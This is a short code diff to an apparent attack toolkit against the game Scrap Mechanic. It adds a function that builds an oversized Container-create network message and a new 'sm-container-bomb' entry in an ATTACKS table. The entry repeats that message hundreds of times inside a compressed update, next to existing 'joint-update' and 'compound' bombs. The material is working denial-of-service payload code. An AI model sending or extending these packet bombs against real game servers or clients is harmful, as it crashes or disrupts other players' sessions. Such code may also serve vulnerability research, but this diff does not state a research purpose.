@@ -43,6 +43,12 @@ def sm_update_joint(netobj_id: int) -> bytes:
             + b"\x45\x67" + struct.pack(">I", 0xFF00FF00))
 
 
+def sm_container_create(netobj_id: int, slots: int = 1480) -> bytes:
+    """Create of a Container with ``slots`` items (22 bytes each) and no filters."""
+    return (bytes([(1 << 5) | 4, 0]) + struct.pack(">IHH", netobj_id, slots, 1)
+            + (b"\x11" * 16 + struct.pack(">IH", 0, 1)) * slots + b"\0\0")
+
+
 def sm_update_body(sub_updates: bytes, tick: int = 1) -> bytes:
     return struct.pack(">I", tick) + sub_updates
 
@@ -165,6 +171,8 @@ ATTACKS: Dict[str, Tuple[str, Callable[[], List[bytes]]]] = {
         sm_lz4(22, sm_update_body(sm_raw_update(sm_create_static(2)), tick=2))]),
     "sm-joint-update-bomb": ("scrap-mechanic", lambda: [
         sm_lz4(22, sm_update_body(sm_raw_update(sm_update_joint(3)) * ((16 << 20) // 51)))]),
+    "sm-container-bomb": ("scrap-mechanic", lambda: [
+        sm_lz4(22, sm_update_body(sm_raw_update(sm_container_create(5)) * 510))]),
     "sm-compound-bomb": ("scrap-mechanic", lambda: [
         sm_compound_bomb(),
         sm_lz4(22, sm_update_body(sm_raw_update(sm_create_static(2)), tick=2))]),
